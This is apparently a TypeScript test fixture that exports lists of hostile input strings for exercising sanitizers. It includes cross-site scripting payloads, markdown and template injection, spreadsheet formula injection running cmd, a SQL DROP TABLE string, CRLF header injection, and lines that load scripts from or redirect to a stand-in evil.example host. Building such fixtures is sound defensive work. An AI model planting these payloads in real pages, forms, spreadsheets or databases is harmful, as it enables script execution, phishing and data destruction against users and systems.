// What somebody types who wants a page to do something. Each would call `ran`, leave for another site, or hide what it is.

const EVIL = "https://evil.example";

const TAGS = [
  "<script>ran(1)</script>",
  "<ScRiPt>ran(1)</sCrIpT>",
  "<script/src=//evil.example/x.js></script>",
  "<scr<script>ipt>ran(1)</scr</script>ipt>",
  "</script><script>ran(1)</script>",
  "</title><script>ran(1)</script>",
  "</textarea><script>ran(1)</script>",
  "--><script>ran(1)</script><!--",
  "]]><script>ran(1)</script>",
  "<img src=x onerror=ran(1)>",
  '"><img src=x onerror=ran(1)>',
  "'><img src=x onerror=ran(1)>",
  "<img/src=`x`onerror=ran(1)>",
  "<IMG SRC=x ONERROR=&#114;an(1)>",
  "<svg onload=ran(1)>",
  "<svg><script>ran(1)</script></svg>",
  "<svg><animate onbegin=ran(1) attributeName=x>",
  "<math><mtext></mtext><script>ran(1)</script></math>",
  "<body onload=ran(1)>",
  "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
  "<iframe src=javascript:parent.ran(1)></iframe>",
  "<object data=javascript:ran(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<details open ontoggle=ran(1)>x</details>",
  "<input autofocus onfocus=ran(1)>",
  "<video><source onerror=ran(1)></video>",
  "<marquee onstart=ran(1)>x</marquee>",
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content='0;url=${EVIL}'>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  "<style>@import '//evil.example/x.css';</style>",
  `<form action=${EVIL}><button>Sign in</button></form>`,
  "<template><script>ran(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
  "<a href=javascript:ran(1) autofocus onfocus=ran(1)>x</a>",
];

const IN_ATTRIBUTES = [
  '" onmouseover="ran(1)" x="',
  "' onmouseover='ran(1)' x='",
  "` onmouseover=ran(1) x=`",
  '" autofocus onfocus="ran(1)',
  "javascript:ran(1)",
  "JaVaScRiPt:ran(1)//",
  "data:text/html,<script>ran(1)</script>",
  "vbscript:ran(1)",
  "&#x6A;avascript:ran(1)",
  "&lt;script&gt;ran(1)&lt;/script&gt;",
  "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
  "%3Cscript%3Eran(1)%3C/script%3E",
  "';ran(1);//",
  '";ran(1);//',
  "</script>$\u007bran(1)}",
  "//evil.example/x",
];

const MARKDOWN = [
  "[x](javascript:ran(1))",
  "[x](JAVASCRIPT:ran(1) 'y')",
  "[x](java&#10;script:ran(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)",
  "[x](vbscript:ran(1))",
  '[x](https://example.test/"onmouseover="ran(1))',
  `![x](${EVIL}/x.png)`,
  '![x"onerror="ran(1)](x)',
  "<javascript:ran(1)>",
  "[x]: javascript:ran(1)",
  "| <img src=x onerror=ran(1)> |",
  "```html <script>ran(1)</script> ```",
];

const TEMPLATES = [
  "{{7*7}}",
  "{{constructor.constructor('ran(1)')()}}",
  "<%= 7*7 %>",
  "#{7*7}",
  "{ran(1)}",
  "$\u007bran(1)}",
];

const ODD_TEXT = [
  '=HYPERLINK("https://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "'; DROP TABLE apps; --",
  "__proto__",
  "constructor",
  "null",
  "שלום عليكم",
  "a\u200bb\u2060c\ufeffd",
  "Z\u0351\u036b\u0343a\u0323\u0321l\u0353\u0329g\u0321o\u0337",
  "👩‍👩‍👧‍👦🏴‍☠️",
  "W".repeat(100),
];

/** What only longer texts take: lines refuse its controls and its characters that turn text around. */
const LONGER = [
  "\u202e<script>ran(1)</script>\u202c",
  "\u2066evil\u2069 \u200fexe.txt",
  "\u001b[31mred\u001b[0m \u0007",
  "one\r\nset-cookie: a=b",
  "<script\u000bsrc=//evil.example/x.js></script\t>",
  "<a\thref='java\nscript:ran(1)'>x</a>",
];

/** They fit into one line of at most 100 characters, composed and without spaces around them. */
export const HOSTILE_LINES: readonly string[] = [...TAGS, ...IN_ATTRIBUTES, ...MARKDOWN, ...TEMPLATES, ...ODD_TEXT].map(
  (line) => line.normalize("NFC"),
);
export const HOSTILE_STRINGS: readonly string[] = [...HOSTILE_LINES, ...LONGER];

const bytesOf = (text: string) => Buffer.byteLength(text);

/** The same strings in fewer texts of at most so many bytes, for what costs much to make. */
export function packed(strings: readonly string[], mostBytes: number): string[] {
  const packs: string[] = [];
  for (const each of strings) {
    const last = packs.at(-1);
    if (last !== undefined && bytesOf(last) + bytesOf(each) < mostBytes) packs[packs.length - 1] = `${last} ${each}`;
    else packs.push(each);
  }
  return packs;
}
